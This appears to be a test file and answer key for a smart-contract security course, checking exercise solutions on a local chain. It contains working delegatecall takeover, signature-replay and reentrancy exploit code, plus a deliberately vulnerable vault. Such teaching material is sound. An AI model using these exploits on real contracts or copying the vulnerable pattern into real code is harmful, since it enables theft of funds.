"""Notebook 08's levels, both ways: a correct exploit (or contract, or signature) passes whatever
route it takes, and the typical wrong attempts fail with their reason, never a traceback."""

import contextlib

import pytest
from eth_account import Account
from eth_account.messages import encode_defunct, encode_typed_data
from web3 import Web3

from course.evm.artifacts import load_artifact
from course.evm.connection import connect
from course.evm.deploy import Reverted, deploy, send
from course.evm.magic import SolidityContract, compile_cell
from course.exercises import FAILED, NOT_DONE, PASSED
from course.exercises.contract_security_levels import (
    check_attacker,
    check_become_owner,
    check_fixed_vault,
    check_replay,
    check_sign_cheque,
)
from tests.exercises.both_ways import assert_checked_both_ways


def at(w3, name, address):
    return w3.eth.contract(address=address, abi=load_artifact(name)["abi"])


def failed_with(check, answer, reason):
    outcome = check.check(answer)
    assert outcome.status == FAILED, outcome
    assert reason in outcome.message, outcome.message
    assert "Traceback" not in outcome.message


# Level 5: delegatecall


def become_owner(w3, vault_address, attacker):
    as_guestbook = at(w3, "Guestbook", vault_address)  # the library's ABI at the vault's address
    send(w3, as_guestbook.functions.signGuestbook(), sender=attacker)
    send(w3, at(w3, "GuestbookVault", vault_address).functions.withdrawAll(), sender=attacker)


def become_owner_with_raw_calldata(w3, vault_address, attacker):
    selector = Web3.keccak(text="signGuestbook()")[:4]
    for data in (selector, Web3.keccak(text="withdrawAll()")[:4]):
        tx = w3.eth.send_transaction({"from": attacker, "to": vault_address, "data": data})
        w3.eth.wait_for_transaction_receipt(tx)


def withdraw_without_taking_over(w3, vault_address, attacker):
    send(w3, at(w3, "GuestbookVault", vault_address).functions.withdrawAll(), sender=attacker)


def sign_the_library_itself(w3, vault_address, attacker):
    library = at(w3, "GuestbookVault", vault_address).functions.guestbook().call()
    send(w3, at(w3, "Guestbook", library).functions.signGuestbook(), sender=attacker)


def take_over_but_keep_the_money_there(w3, vault_address, attacker):
    send(w3, at(w3, "Guestbook", vault_address).functions.signGuestbook(), sender=attacker)


def take_over_from_the_owners_account(w3, vault_address, attacker):
    send(w3, at(w3, "Guestbook", vault_address).functions.signGuestbook(),
         sender=w3.eth.accounts[0])


def test_become_owner_both_ways():
    assert_checked_both_ways(
        check_become_owner, [become_owner, become_owner_with_raw_calldata],
        [withdraw_without_taking_over, sign_the_library_itself,
         take_over_but_keep_the_money_there, take_over_from_the_owners_account])


@pytest.mark.parametrize("wrong, reason", [
    (withdraw_without_taking_over, "change who the vault thinks its owner is first"),
    (sign_the_library_itself, "You signed the Guestbook contract itself"),
    (take_over_but_keep_the_money_there, "you are the vault's owner now, but it still holds 10"),
    (take_over_from_the_owners_account, "which is not the attacker"),
])
def test_become_owner_says_why(wrong, reason):
    failed_with(check_become_owner, wrong, reason)


def test_the_safe_guestbook_vault_keeps_its_owner():
    w3 = connect()
    guestbook = deploy(w3, "Guestbook")
    safe = deploy(w3, "SafeGuestbookVault", guestbook.address, value=10**18)
    with contextlib.suppress(Reverted):  # the withdrawal reverts: the attacker is no owner
        become_owner(w3, safe.address, w3.eth.accounts[5])
    assert safe.functions.owner().call() == w3.eth.accounts[0]
    assert safe.functions.lastVisitor().call() == w3.eth.accounts[5]  # the guestbook still works
    assert w3.eth.get_balance(safe.address) == 10**18


# Level 6: signature replay


def replay(w3, bank_address, cheque, attacker):
    bank = at(w3, "ChequeBank", bank_address)
    c = cheque
    while bank.functions.balanceOf(c["payer"]).call() >= c["amount"]:
        send(w3, bank.functions.cash(c["to"], c["amount"], c["v"], c["r"], c["s"]),
             sender=attacker)


def replay_until_it_reverts_with_plain_transact(w3, bank_address, cheque, attacker):
    """Recovers the payer itself and cashes with web3.py's own .transact()."""
    bank = at(w3, "ChequeBank", bank_address)
    c = cheque
    message = Web3.solidity_keccak(["address", "uint256"], [c["to"], c["amount"]])
    payer = Account.recover_message(encode_defunct(primitive=message),
                                    vrs=(c["v"], c["r"], c["s"]))
    for _ in range(bank.functions.balanceOf(payer).call() // c["amount"]):
        tx = bank.functions.cash(c["to"], c["amount"], c["v"], c["r"], c["s"]).transact(
            {"from": attacker})
        w3.eth.wait_for_transaction_receipt(tx)


def cash_once(w3, bank_address, cheque, attacker):
    bank = at(w3, "ChequeBank", bank_address)
    c = cheque
    send(w3, bank.functions.cash(c["to"], c["amount"], c["v"], c["r"], c["s"]), sender=attacker)


def raise_the_amount(w3, bank_address, cheque, attacker):
    bank = at(w3, "ChequeBank", bank_address)
    c = cheque
    everything = bank.functions.balanceOf(c["payer"]).call()
    send(w3, bank.functions.cash(c["to"], everything, c["v"], c["r"], c["s"]), sender=attacker)


def replay_from_someone_else(w3, bank_address, cheque, attacker):
    bank = at(w3, "ChequeBank", bank_address)
    c = cheque
    while bank.functions.balanceOf(c["payer"]).call() >= c["amount"]:
        send(w3, bank.functions.cash(c["to"], c["amount"], c["v"], c["r"], c["s"]),
             sender=w3.eth.accounts[2])


def test_replay_both_ways():
    assert_checked_both_ways(check_replay, [replay, replay_until_it_reverts_with_plain_transact],
                             [cash_once, raise_the_amount, replay_from_someone_else])


@pytest.mark.parametrize("wrong, reason", [
    (cash_once, "after you cashed it 1 time(s)"),
    (raise_the_amount, "A changed amount or recipient is a different message"),
    (replay_from_someone_else, "which is not the attacker"),
])
def test_replay_says_why(wrong, reason):
    failed_with(check_replay, wrong, reason)


DOMAIN_FIELDS = [{"name": "name", "type": "string"}, {"name": "version", "type": "string"},
                 {"name": "chainId", "type": "uint256"},
                 {"name": "verifyingContract", "type": "address"}]
CHEQUE_FIELDS = [{"name": "to", "type": "address"}, {"name": "amount", "type": "uint256"},
                 {"name": "nonce", "type": "uint256"}]


def typed_cheque(bank_address, chain_id, to, amount, nonce, domain_fields=DOMAIN_FIELDS):
    domain = {"name": "SafeChequeBank", "version": "1", "chainId": chain_id,
              "verifyingContract": bank_address}
    return {"types": {"EIP712Domain": domain_fields, "Cheque": CHEQUE_FIELDS},
            "primaryType": "Cheque",
            "domain": {f["name"]: domain[f["name"]] for f in domain_fields},
            "message": {"to": to, "amount": amount, "nonce": nonce}}


def sign_cheque(private_key, bank_address, chain_id, to, amount, nonce):
    data = typed_cheque(bank_address, chain_id, to, amount, nonce)
    return Account.sign_message(encode_typed_data(full_message=data), private_key)


def sign_cheque_three_arguments_as_bytes(private_key, bank_address, chain_id, to, amount, nonce):
    domain = {"name": "SafeChequeBank", "version": "1", "chainId": chain_id,
              "verifyingContract": bank_address}
    signable = encode_typed_data(domain, {"Cheque": CHEQUE_FIELDS},
                                 {"to": to, "amount": amount, "nonce": nonce})
    return bytes(Account.sign_message(signable, private_key).signature)


def sign_a_plain_message(private_key, bank_address, chain_id, to, amount, nonce):
    message = Web3.solidity_keccak(["address", "uint256", "uint256"], [to, amount, nonce])
    return Account.sign_message(encode_defunct(primitive=message), private_key)


def sign_without_the_chain_id(private_key, bank_address, chain_id, to, amount, nonce):
    fields = [f for f in DOMAIN_FIELDS if f["name"] != "chainId"]
    data = typed_cheque(bank_address, chain_id, to, amount, nonce, fields)
    return Account.sign_message(encode_typed_data(full_message=data), private_key)


def sign_for_this_chain_whatever_is_asked(private_key, bank_address, chain_id, to, amount, nonce):
    return sign_cheque(private_key, bank_address, 131277322940537, to, amount, nonce)


def sign_the_hash_as_text(private_key, bank_address, chain_id, to, amount, nonce):
    return "not a signature"


def test_sign_cheque_both_ways():
    assert_checked_both_ways(
        check_sign_cheque, [sign_cheque, sign_cheque_three_arguments_as_bytes],
        [sign_a_plain_message, sign_without_the_chain_id, sign_for_this_chain_whatever_is_asked,
         sign_the_hash_as_text])


@pytest.mark.parametrize("wrong, reason", [
    (sign_a_plain_message, "SafeChequeBank refused your cheque #0"),
    (sign_without_the_chain_id, "SafeChequeBank refused your cheque #0"),
    (sign_for_this_chain_whatever_is_asked, "a cheque you signed for chain id 1 was cashed"),
    (sign_the_hash_as_text, "is not hex"),
])
def test_sign_cheque_says_why(wrong, reason):
    failed_with(check_sign_cheque, wrong, reason)


# Solidity levels: compiled once for the module

ROBBERS = """
interface IVault { function deposit() external payable; function withdraw() external; }

contract Robber {
    IVault public vault; address public owner; uint256 public stake;
    constructor(address vault_) { vault = IVault(vault_); owner = msg.sender; }
    function attack() external payable {
        stake = msg.value; vault.deposit{value: msg.value}(); vault.withdraw();
        (bool ok, ) = owner.call{value: address(this).balance}(""); require(ok, "home");
    }
    receive() external payable { if (address(vault).balance >= stake) vault.withdraw(); }
}

contract RobberWithCollect {
    IVault public immutable vault; address public immutable owner; uint256 public rounds;
    constructor(address vault_) { vault = IVault(vault_); owner = msg.sender; }
    function attack() external payable { vault.deposit{value: msg.value}(); vault.withdraw(); }
    receive() external payable {
        rounds += 1;
        if (address(vault).balance >= msg.value) vault.withdraw();
    }
    function collect() external { payable(owner).transfer(address(this).balance); }
}

contract Honest {
    IVault public vault; address public owner;
    constructor(address vault_) { vault = IVault(vault_); owner = msg.sender; }
    function attack() external payable {
        vault.deposit{value: msg.value}(); vault.withdraw();
        payable(owner).transfer(address(this).balance);
    }
    receive() external payable {}
}

contract KeepsTheLoot {
    IVault public vault; uint256 public stake;
    constructor(address vault_) { vault = IVault(vault_); }
    function attack() external payable {
        stake = msg.value; vault.deposit{value: msg.value}(); vault.withdraw();
    }
    receive() external payable { if (address(vault).balance >= stake) vault.withdraw(); }
}

contract NeverStops {
    IVault public vault; address public owner;
    constructor(address vault_) { vault = IVault(vault_); owner = msg.sender; }
    function attack() external payable { vault.deposit{value: msg.value}(); vault.withdraw(); }
    receive() external payable { vault.withdraw(); }
}

contract NoConstructor {
    function attack() external payable {}
}

contract NoAttackYet {
    constructor(address vault_) {}
}
"""

VAULT = """
contract {name} {{
    mapping(address => uint256) public balanceOf;
    bool private locked;
    function deposit() external payable {{ balanceOf[msg.sender] += msg.value; }}
    function withdraw() external {{
        {body}
    }}
}}
"""

VAULTS = {
    "EffectsFirst": """uint256 amount = balanceOf[msg.sender];
        require(amount > 0, "nothing to withdraw");
        balanceOf[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");""",
    "WithAGuard": """require(!locked, "reentrant call");
        locked = true;
        uint256 amount = balanceOf[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");
        balanceOf[msg.sender] = 0;
        locked = false;""",
    "Unchanged": """uint256 amount = balanceOf[msg.sender];
        require(amount > 0, "nothing to withdraw");
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");
        balanceOf[msg.sender] = 0;""",
    "GuardNeverUnlocks": """require(!locked, "reentrant call");
        locked = true;
        uint256 amount = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");""",
    "ZeroedBeforeRead": """balanceOf[msg.sender] = 0;
        uint256 amount = balanceOf[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");""",
    "ForgetsToPay": """balanceOf[msg.sender] = 0;""",
}


@pytest.fixture(scope="module")
def compiled():
    source = "// SPDX-License-Identifier: MIT\npragma solidity ^0.8.20;\n" + ROBBERS + "".join(
        VAULT.format(name=name, body=body) for name, body in VAULTS.items())
    return compile_cell(source)


def test_attacker_accepts_a_contract_that_sends_home_or_one_with_collect(compiled):
    for name in ("Robber", "RobberWithCollect"):
        outcome = check_attacker.check(compiled[name])
        assert outcome.status == PASSED, (name, outcome.message)


@pytest.mark.parametrize("name, reason", [
    ("Honest", "it paid your contract 1 time(s)"),
    ("KeepsTheLoot", "sit in your contract, not with the attacker"),
    ("NeverStops", "must stop re-entering once the vault holds less than your stake"),
    ("NoConstructor", "with the vault's address as its one constructor argument"),
])
def test_attacker_says_why(compiled, name, reason):
    failed_with(check_attacker, compiled[name], reason)


def test_attacker_not_done_and_not_compiled_and_not_a_contract(compiled):
    assert check_attacker.check(compiled["NoAttackYet"]).status == NOT_DONE
    outcome = check_attacker.check(SolidityContract("Robber", (), ""))
    assert outcome.status == NOT_DONE and "needs a Solidity compiler" in outcome.message
    failed_with(check_attacker, "contract Robber {}", "pass the contract your %%solidity cell")


def test_fixed_vault_accepts_effects_first_or_a_guard(compiled):
    for name in ("EffectsFirst", "WithAGuard"):
        outcome = check_fixed_vault.check(compiled[name])
        assert outcome.status == PASSED, (name, outcome.message)


@pytest.mark.parametrize("name, reason", [
    ("Unchanged", "the course's VaultAttacker (1 ETH stake, re-entering withdraw from receive) "
                  "left your vault holding 0 ETH"),
    ("GuardNeverUnlocks", "does your guard unlock at the end?"),
    ("ZeroedBeforeRead", "was owed 0.3 ETH, received 0 ETH"),
    ("ForgetsToPay", "holds 7 ETH but its books sum to 6 ETH"),
])
def test_fixed_vault_says_why(compiled, name, reason):
    failed_with(check_fixed_vault, compiled[name], reason)


def test_fixed_vault_needs_the_three_functions(compiled):
    outcome = check_fixed_vault.check(compiled["Robber"])
    assert outcome.status == NOT_DONE and "has no deposit, withdraw, balanceOf yet" in \
        outcome.message
